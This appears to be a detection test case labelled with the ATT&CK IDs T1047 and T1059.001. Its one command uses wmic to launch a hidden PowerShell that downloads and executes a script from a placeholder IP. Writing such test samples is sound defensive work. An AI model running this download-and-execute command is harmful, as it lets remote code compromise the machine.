# expect: T1047 T1059.001
wmic process call create "powershell -nop -w hidden -c iex(New-Object Net.WebClient).DownloadString('http://203.0.113.18/w')"
